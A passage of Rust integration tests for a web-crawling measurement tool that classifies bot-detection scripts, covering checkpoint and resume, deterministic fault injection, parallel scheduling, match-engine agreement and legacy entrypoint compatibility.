    let line = report.coverage_line();
    assert!(line.contains("/1000 sites completed"));
    for h in &report.history {
        if h.status == CrawlStatus::Failed {
            let reason = FailureReason::parse(&h.error)
                .unwrap_or_else(|| panic!("untyped failure reason {:?}", h.error));
            assert!(line.contains(reason.as_str()), "coverage line omits {reason:?}");
        }
    }
}

/// Same seed + same fault plan ⇒ identical aggregates, run to run.
#[test]
fn faulty_scan_aggregates_are_deterministic() {
    let cfg = ScanConfig {
        faults: FaultPlan::adversarial(19),
        workers: 3,
        ..ScanConfig::new(400, 11)
    };
    let a = Scan::new(cfg).run().expect("scan");
    let b = Scan::new(cfg).run().expect("scan");
    assert_eq!(a.completion, b.completion);
    assert_eq!(a.history, b.history);
    assert_eq!(a.table5(), b.table5());
    assert_eq!(a.table7(), b.table7());
    assert_eq!(a.table12(), b.table12());
    assert_eq!(a.sites, b.sites);
}

/// Kill the crawl midway (deterministically, via the visit budget), resume
/// from the checkpoint file, and get aggregates identical to a run that
/// was never interrupted.
#[test]
fn killed_and_resumed_scan_matches_uninterrupted() {
    let base = ScanConfig {
        faults: FaultPlan::adversarial(5),
        workers: 2,
        ..ScanConfig::new(300, 23)
    };
    let uninterrupted = Scan::new(base).run().expect("scan");

    let path = tmp_checkpoint("resume");
    // First leg: budget admits only 120 of 300 sites, rest interrupted.
    let first = Scan::new(ScanConfig { visit_budget: Some(120), ..base })
        .checkpoint(&path)
        .run()
        .expect("first leg");
    assert_eq!(first.completion.interrupted, 180);
    assert!(first.completion.completed < uninterrupted.completion.completed);

    // Second leg: no budget, resumes the remaining sites from the file.
    // Everything the measurement reports — site records, per-site history,
    // tables, the coverage line — must be byte-identical to the run that
    // was never interrupted. (Effort telemetry like attempts/restarts is
    // per-process-leg and deliberately not checkpointed.)
    let resumed = Scan::new(base).checkpoint(&path).run().expect("second leg");
    assert_eq!(resumed.completion.completed, uninterrupted.completion.completed);
    assert_eq!(resumed.completion.failed, uninterrupted.completion.failed);
    assert_eq!(resumed.completion.interrupted, 0);
    assert_eq!(
        resumed.completion.failures_by_reason,
        uninterrupted.completion.failures_by_reason
    );
    assert_eq!(resumed.history, uninterrupted.history);
    assert_eq!(resumed.sites, uninterrupted.sites);
    assert_eq!(resumed.table5(), uninterrupted.table5());
    assert_eq!(resumed.table12(), uninterrupted.table12());
    assert_eq!(resumed.coverage_line(), uninterrupted.coverage_line());
    let _ = std::fs::remove_file(&path);
}

/// A torn final line (simulating a kill mid-write) is skipped on load and
/// the affected site is simply re-visited.
#[test]
fn torn_checkpoint_line_is_survivable() {
    let base = ScanConfig { workers: 2, ..ScanConfig::new(150, 31) };
    let uninterrupted = Scan::new(base).run().expect("scan");

    let path = tmp_checkpoint("torn");
    Scan::new(ScanConfig { visit_budget: Some(60), ..base })
        .checkpoint(&path)
        .run()
        .expect("first leg");
    // Tear the last line in half.
    let contents = std::fs::read_to_string(&path).unwrap();
    let keep = contents.len() - contents.lines().last().unwrap().len() / 2 - 1;
    std::fs::write(&path, &contents[..keep]).unwrap();

    let resumed = Scan::new(base).checkpoint(&path).run().expect("second leg");
    assert_eq!(resumed.completion.completed, uninterrupted.completion.completed);
    assert_eq!(resumed.completion.interrupted, 0);
    assert_eq!(resumed.sites, uninterrupted.sites);
    assert_eq!(resumed.history, uninterrupted.history);
    let _ = std::fs::remove_file(&path);
}

/// Checkpoint files are stamped with a format version; files from another
/// version (or from before versioning existed) are refused with a clear
/// error instead of being mis-parsed as "all lines torn" — which would
/// silently restart the crawl from zero.
#[test]
fn checkpoint_format_version_is_stamped_and_validated() {
    let base = ScanConfig { workers: 2, ..ScanConfig::new(40, 13) };

    // A fresh checkpoint leads with the version header.
    let path = tmp_checkpoint("version");
    Scan::new(base).checkpoint(&path).run().expect("scan");
    let contents = std::fs::read_to_string(&path).unwrap();
    let expected = format!("gullible-checkpoint v{}", gullible::CHECKPOINT_FORMAT_VERSION);
    assert_eq!(contents.lines().next(), Some(expected.as_str()));

    // Resuming from it works (header is not mistaken for a site line).
    let resumed = Scan::new(base).checkpoint(&path).run().expect("resume");
    assert_eq!(resumed.completion.checkpoint_lines_dropped, 0);

    // A future/past version is refused, naming both versions.
    let body = contents.split_once('\n').unwrap().1;
    std::fs::write(&path, format!("gullible-checkpoint v999\n{body}")).unwrap();
    let err = Scan::new(base).checkpoint(&path).run().unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidData);
    let msg = err.to_string();
    assert!(msg.contains("v999"), "{msg}");
    assert!(msg.contains(&format!("v{}", gullible::CHECKPOINT_FORMAT_VERSION)), "{msg}");

    // A pre-versioning file (no header at all) is refused, not restarted.
    std::fs::write(&path, body).unwrap();
    let err = Scan::new(base).checkpoint(&path).run().unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidData);
    assert!(err.to_string().contains("pre-versioning"), "{err}");

    // A mangled header is refused too.
    std::fs::write(&path, format!("gullible-checkpoint vX\n{body}")).unwrap();
    let err = Scan::new(base).checkpoint(&path).run().unwrap_err();
    assert_eq!(err.kind(), std::io::ErrorKind::InvalidData);

    let _ = std::fs::remove_file(&path);
}

/// A panic inside a visit step surfaces once, names the *correct* item
/// index, and does so at any worker count — the work-stealing scheduler
/// may route the item to any worker, but never mislabel it.
#[test]
fn step_panic_reports_correct_index_at_any_worker_count() {
    for workers in [1usize, 3, 8] {
        let caught = std::panic::catch_unwind(|| {
            openwpm::run_parallel(
                (0..100u32).collect::<Vec<_>>(),
                workers,
                |_| (),
                |_, i, x: u32| {
                    if x == 61 {
                        panic!("deliberate visit explosion");
                    }
                    i
                },
            )
        });
        let payload = caught.expect_err("panic must propagate");
        let msg = payload
            .downcast_ref::<String>()
            .cloned()
            .or_else(|| payload.downcast_ref::<&str>().map(|s| s.to_string()))
            .unwrap_or_default();
        assert!(msg.contains("item 61"), "workers={workers}: {msg}");
        assert!(msg.contains("deliberate visit explosion"), "workers={workers}: {msg}");
    }
}

/// Fault injection draws are keyed by (site, attempt), not by scheduling:
/// the same adversarial plan must produce the same per-site outcomes and
/// retry accounting whether one worker or eight drain the queue.
#[test]
fn fault_outcomes_identical_across_worker_counts() {
    let base_cfg = |workers| ScanConfig {
        faults: FaultPlan::adversarial(29),
        workers,
        ..ScanConfig::new(250, 17)
    };
    let base = Scan::new(base_cfg(1)).run().expect("scan");
    for workers in [3, 8] {
        let report = Scan::new(base_cfg(workers)).run().expect("scan");
        assert_eq!(base.completion, report.completion, "workers={workers}");
        assert_eq!(base.history, report.history, "workers={workers}");
        assert_eq!(base.sites, report.sites, "workers={workers}");
        assert_eq!(base.coverage_line(), report.coverage_line(), "workers={workers}");
    }
}

/// Checkpoint/resume composes with the scheduler at a high worker count:
/// interrupt a faulty 8-worker crawl, resume with a different worker
/// count, and match the uninterrupted single-worker run byte for byte.
#[test]
fn checkpoint_resume_with_many_workers_matches_single_worker() {
    let cfg = |workers| ScanConfig {
        faults: FaultPlan::adversarial(3),
        workers,
        ..ScanConfig::new(200, 53)
    };
    let uninterrupted = Scan::new(cfg(1)).run().expect("scan");

    let path = tmp_checkpoint("sched-resume");
    Scan::new(ScanConfig { visit_budget: Some(80), ..cfg(8) })
        .checkpoint(&path)
        .run()
        .expect("first leg");
    let resumed = Scan::new(cfg(3)).checkpoint(&path).run().expect("second leg");
    assert_eq!(resumed.completion.completed, uninterrupted.completion.completed);
    assert_eq!(resumed.completion.failed, uninterrupted.completion.failed);
    assert_eq!(resumed.sites, uninterrupted.sites);
    assert_eq!(resumed.history, uninterrupted.history);
    assert_eq!(resumed.table5(), uninterrupted.table5());
    let _ = std::fs::remove_file(&path);
}

fn arbitrary_record(rng: &mut proplite::Rng) -> SiteScanRecord {
    let flags = |rng: &mut proplite::Rng| PageFlags {
        static_identified: rng.bool(),
        static_true: rng.bool(),
        dynamic_identified: rng.bool(),
        dynamic_true: rng.bool(),
    };
    let cats = Category::all();
    SiteScanRecord {
        rank: rng.u32_in(0, 100_000),
        domain: format!("{}.com", rng.ascii(1, 24)),
        categories: (0..rng.usize_in(0, 3))
            .map(|_| cats[rng.usize_in(0, cats.len() - 1)])
            .collect(),
        front: flags(rng),
        site: flags(rng),
        openwpm_probes: (0..rng.usize_in(0, 4))
            .map(|_| (rng.ascii(1, 16), rng.ascii(1, 16)))
            .collect(),
        third_party_domains: (0..rng.usize_in(0, 5)).map(|_| rng.ascii(1, 20)).collect(),
        first_party_urls: (0..rng.usize_in(0, 3))
            .map(|_| format!("https://{}/{}.js", rng.ascii(1, 12), rng.ascii(1, 12)))
            .collect(),
        script_hashes: (0..rng.usize_in(0, 8)).map(|_| rng.next_u64()).collect(),
    }
}

/// Property: checkpoint serialisation round-trips arbitrary scan records
/// and whole outcome lines exactly.
#[test]
fn checkpoint_encoding_roundtrips_arbitrary_records() {
    proplite::run_cases(300, 0xC4EC, |rng| {
        let rec = arbitrary_record(rng);
        let decoded = decode_site_record(&encode_site_record(&rec))
            .expect("encoded record must decode");
        assert_eq!(decoded, rec);

        let attempts = rng.u32_in(1, 5);
        let outcome = VisitOutcome::Completed(rec);
        let line = checkpoint_line(rng.u32_in(0, 100_000), &outcome, attempts).unwrap();
        let (_, parsed, att) = parse_checkpoint_line(&line).expect("line must parse");
        assert_eq!(parsed, outcome);
        assert_eq!(att, attempts);
    });
}
