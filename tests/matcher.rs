//! Integration tests for the compiled static-match engine: the automaton
//! must be invisible in every measured artifact relative to the naive
//! per-pattern oracle, and the FNV-64 verdict memo must actually absorb
//! the repeated script bodies a multi-subpage scan produces.
//!
//! The match engine default, the verdict memo and the telemetry registry
//! are process-wide; these tests serialise on one mutex so the parallel
//! test runner cannot interleave their resets.

use std::sync::Mutex;

use detect::MatcherKind;
use gullible::obs;
use gullible::scan::{Scan, ScanConfig};

static SERIAL: Mutex<()> = Mutex::new(());

fn scan_cfg() -> ScanConfig {
    let mut cfg = ScanConfig::new(600, 7);
    cfg.workers = 2;
    cfg
}

/// The headline ablation invariant, at test scale: the same seed scanned
/// under the naive oracle and the automaton yields identical Table 5
/// output, identical per-site records, and a byte-identical telemetry
/// digest.
#[test]
fn match_engines_agree_at_scan_scale() {
    let _g = SERIAL.lock().unwrap();
    let leg = |kind: MatcherKind| {
        obs::reset();
        obs::set_stats(true);
        jsengine::cache().clear();
        detect::clear_verdict_memo();
        detect::set_default_matcher(kind);
        let report = Scan::new(scan_cfg()).run().expect("scan");
        let digest = obs::registry().snapshot().digest();
        (report, digest)
    };
    let (naive, digest_naive) = leg(MatcherKind::Naive);
    let (auto, digest_auto) = leg(MatcherKind::Automaton);
    obs::reset();
    detect::clear_verdict_memo();
    detect::set_default_matcher(MatcherKind::Automaton);

    assert_eq!(naive.table5(), auto.table5(), "table 5 must not depend on the match engine");
    assert_eq!(naive.sites, auto.sites, "per-site records must not depend on the match engine");
    assert_eq!(naive.history, auto.history);
    assert_eq!(
        digest_naive, digest_auto,
        "telemetry digest differs: {digest_naive:016x} (naive) vs {digest_auto:016x} (automaton)"
    );
}

/// Identical script bodies fetched on multiple pages (and sites) of one
/// scan must hit the verdict memo: each distinct body is preprocessed and
/// matched once per process, every repeat is a map lookup.
#[test]
fn repeated_bodies_hit_the_verdict_memo() {
    let _g = SERIAL.lock().unwrap();
    obs::reset();
    obs::set_stats(true);
    detect::clear_verdict_memo();
    let report = Scan::new(scan_cfg()).run().expect("scan");
    let snap = obs::registry().snapshot();
    let hits = snap.counter("match.memo.hit");
    let misses = snap.counter("match.memo.miss");
    let scanned: usize = report.sites.iter().map(|s| s.script_hashes.len()).sum();
    assert!(scanned > 0, "scan produced no scripts to classify");
    assert_eq!(
        (hits + misses) as usize,
        scanned,
        "every saved script must consult the memo exactly once"
    );
    assert!(hits > 0, "multi-subpage scan must reuse memoised verdicts (misses {misses})");
    assert!(
        misses <= hits,
        "shared bodies should dominate: {misses} misses vs {hits} hits"
    );
    // The memo split renders in [stats] but is digest-excluded.
    obs::reset();
    detect::clear_verdict_memo();
}

/// The `match.*` effort metrics render in the `[stats]` summary but are
/// excluded from the telemetry digest — the memo hit/miss split depends on
/// worker scheduling, never the verdicts.
#[test]
fn match_metrics_are_digest_excluded() {
    let _g = SERIAL.lock().unwrap();
    obs::reset();
    obs::set_stats(true);
    let before = obs::registry().snapshot().digest();
    let _ = detect::classify_memo("if (navigator.webdriver) {}", 0x1234);
    let _ = detect::classify_memo("if (navigator.webdriver) {}", 0x1234);
    let snap = obs::registry().snapshot();
    assert!(snap.counter("match.scripts") > 0);
    assert_eq!(snap.counter("match.memo.hit"), 1);
    assert_eq!(snap.digest(), before, "match.* metrics must not move the digest");
    obs::reset();
    detect::clear_verdict_memo();
}
