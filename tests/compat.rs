//! Compatibility shims: the pre-builder scan entrypoints stay callable
//! (behind `#[deprecated]`) and return exactly what the `Scan` builder
//! returns. This is the only place in the tree still allowed to call
//! them — everything else uses `Scan::new(cfg)…run()`.
#![allow(deprecated)]

use gullible::scan::{run_scan, run_scan_supervised, run_scan_with_checkpoint, Scan, ScanConfig};

#[test]
fn run_scan_matches_builder() {
    let cfg = ScanConfig::new(120, 5);
    let old = run_scan(cfg);
    let new = Scan::new(cfg).run().expect("scan without checkpoint cannot fail");
    assert_eq!(old.sites, new.sites);
    assert_eq!(old.completion, new.completion);
    assert_eq!(old.table5(), new.table5());
}

#[test]
fn run_scan_supervised_matches_builder() {
    let cfg = ScanConfig::new(100, 9);
    let old_calls = std::sync::atomic::AtomicU32::new(0);
    let new_calls = std::sync::atomic::AtomicU32::new(0);
    let old = run_scan_supervised(cfg, Vec::new(), &[], &|_, _, _| {
        old_calls.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
    });
    let new = Scan::new(cfg)
        .on_complete(|_, _, _| {
            // borrows a stack local — the builder's `'a` lifetime allows it
            new_calls.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        })
        .run()
        .expect("scan without checkpoint cannot fail");
    assert_eq!(old.sites, new.sites);
    assert_eq!(old.history, new.history);
    assert_eq!(
        old_calls.into_inner(),
        new_calls.into_inner(),
        "completion callback must fire identically through both entrypoints"
    );
}

#[test]
fn run_scan_with_checkpoint_matches_builder() {
    let cfg = ScanConfig::new(80, 13);
    let dir = std::env::temp_dir();
    let a = dir.join(format!("gullible-compat-a-{}.ckpt", std::process::id()));
    let b = dir.join(format!("gullible-compat-b-{}.ckpt", std::process::id()));
    let _ = std::fs::remove_file(&a);
    let _ = std::fs::remove_file(&b);

    let old = run_scan_with_checkpoint(cfg, &a).expect("old entrypoint");
    let new = Scan::new(cfg).checkpoint(&b).run().expect("builder");
    assert_eq!(old.sites, new.sites);
    assert_eq!(old.completion.completed, new.completion.completed);
    // Line order follows worker completion order (scheduling-dependent);
    // the recorded outcomes themselves must agree exactly.
    let lines = |p: &std::path::Path| {
        let mut v: Vec<String> =
            std::fs::read_to_string(p).unwrap().lines().map(String::from).collect();
        v.sort();
        v
    };
    assert_eq!(lines(&a), lines(&b), "checkpoint contents must agree");
    let _ = std::fs::remove_file(&a);
    let _ = std::fs::remove_file(&b);
}
